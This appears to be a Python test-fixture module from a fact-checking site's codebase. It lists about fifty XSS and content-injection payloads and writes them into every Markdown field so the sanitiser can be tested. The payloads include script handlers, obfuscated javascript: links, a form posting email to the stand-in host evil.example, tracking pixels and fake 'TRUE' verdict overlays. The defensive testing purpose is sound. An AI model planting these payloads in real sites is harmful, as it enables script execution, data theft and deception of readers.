"""Attack payloads an editor (or a hostile pull request) could put in a Markdown field.

Each family is something that ran script, navigated readers away, collected their data,
painted a fake verdict or hid the evidence on the site before Markdown fields were sanitised.
Used by tests/test_markup.py (the sanitiser itself) and tests/test_hostile_content.py (built
sites, in HTML and in Chromium).
"""

from __future__ import annotations

from pathlib import Path

EVIL = "https://evil.example"

PAYLOADS: dict[str, str] = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-slash": "<img/src=x onerror=alert(1)>",
    "img-alt-quote": '<img alt=">" onerror=alert(1)>',
    "svg-onload": "<svg/onload=alert(1)>",
    "svg-onload-space": "<svg onload=alert(1)></svg>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary>y</details>",
    "attr-list-autofocus": "A paragraph.\n{: autofocus onfocus=alert(1) tabindex=0 }",
    "attr-list-inline": "[a link](https://example.org){: onclick=alert(1) }",
    "javascript-link": "[click](javascript:alert(1))",
    "javascript-reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "javascript-entity": '<a href="&#106;avascript:alert(1)">click</a>',
    "javascript-hex-entity": '<a href="&#x6A;avascript&#x3A;alert(1)">click</a>',
    "javascript-tab": '<a href="java&#9;script:alert(1)">click</a>',
    "javascript-newline": '<a href="java\nscript:alert(1)">click</a>',
    "vbscript-link": '<a href="vbscript:msgbox(1)">click</a>',
    "data-link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    "script": "<script>alert(1)</script>",
    "script-src": f'<script src="{EVIL}/x.js"></script>',
    "iframe": f'<iframe src="{EVIL}/" width=800 height=600></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": f'<object data="{EVIL}/x.swf"></object>',
    "embed": f'<embed src="{EVIL}/x.swf">',
    "base": f'<base href="{EVIL}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    "link-stylesheet": f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "style-element": "<style>body { display: none }</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">Rated TRUE</p>',
    "fixed-div": ('<div style="position:fixed;inset:0;z-index:9999;background:#1b7f3b;color:#fff">'
                  "Our verdict: TRUE</div>"),
    "fake-badge-class": '<span class="fc-badge fc-rating-true">True</span>',
    "fake-badge-id": '<p id="__config" class="md-header">x</p>',
    "form": f'<form action="{EVIL}/collect"><input name="email"><button>Subscribe</button></form>',
    "formaction": f'<button formaction="{EVIL}/">Go</button>',
    "plaintext": "<plaintext>everything after this is text",
    "unclosed-comment": "<!-- everything after this is hidden",
    "markdown-0-plaintext": '<div markdown="0"><plaintext>hidden',
    "markdown-0-comment": '<div markdown="0"><!-- hidden',
    "external-image": f"![tracking pixel]({EVIL}/pixel.png)",
    "protocol-relative-image": "![tracking pixel](//evil.example/pixel.png)",
    "img-srcset": f'<img src="a.png" srcset="{EVIL}/p.png 1x">',
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "textarea-breakout": "<textarea></textarea><img src=x onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "audio": "<audio src=x onerror=alert(1)>",
    "video-poster": f'<video poster="{EVIL}/p.png"></video>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "dialog-open": "<dialog open>Rated TRUE</dialog>",
    "popover": '<div popover id="x">fake</div><button popovertarget="x">x</button>',
}

# Legitimate Markdown that must still render: what an analysis really holds.
LEGITIMATE = (
    "**The attribution is accurate.** Russia's spokesman [announced the figures](https://example.org/a) "
    "on the day; the *U.S.* could confirm 15.\n\n"
    "- one item\n- another, with `<img src=x onerror=alert(1)>` quoted as code\n\n"
    "1. first\n2. second\n\n"
    "> A quotation.\n\n"
    "| Source | Toll |\n| :--- | ---: |\n| SOHR | 83 |\n| U.S. | 15 |\n\n"
    "```html\n<script>alert('shown, not run')</script>\n```\n\n"
    "Write to [the desk](mailto:desk@example.org) or read [the methodology](../../methodology/).\n\n"
    "![A chart of this site](../../assets/chart.png)\n"
)


# Payloads that swallow whatever follows them in the same field go last when several are joined.
SWALLOWING = ("plaintext", "unclosed-comment", "markdown-0-plaintext", "markdown-0-comment", "textarea-breakout")


def all_payloads() -> str:
    """Every payload in one Markdown field, those that swallow what follows them last."""
    order = sorted(PAYLOADS, key=lambda name: (name in SWALLOWING, name))
    return "\n\n".join(f"Payload {name}:\n\n{PAYLOADS[name]}" for name in order)


def write_attack_content(minimal: Path, root: Path) -> dict[str, str]:
    """The minimal fixture with a payload in every Markdown field: one claim per payload (its
    analysis), and all of them in the report summary, a claimant's and every rating's description.
    Returns claim id -> payload name."""
    import shutil

    import yaml

    shutil.copytree(minimal, root)
    every = all_payloads()
    ratings = yaml.safe_load((root / "ratings.yaml").read_text(encoding="utf-8"))
    for rating in ratings:
        rating["description"] = every
    (root / "ratings.yaml").write_text(yaml.safe_dump(ratings, allow_unicode=True, sort_keys=False), encoding="utf-8")
    for path in (root / "reports" / "briefing-review.yaml", root / "claimants" / "jane-doe.yaml"):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        data["summary" if "reports" in path.parts else "description"] = every
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    template = yaml.safe_load((root / "claims" / "toll-62-killed.yaml").read_text(encoding="utf-8"))
    claims = {}
    for name, payload in PAYLOADS.items():
        claim_id = f"attack-{name}"
        data = {**template, "claim": f"Attack: {name}", "verdict": {**template["verdict"], "analysis": payload}}
        (root / "claims" / f"{claim_id}.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False),
                                                          encoding="utf-8")
        claims[claim_id] = name
    return claims
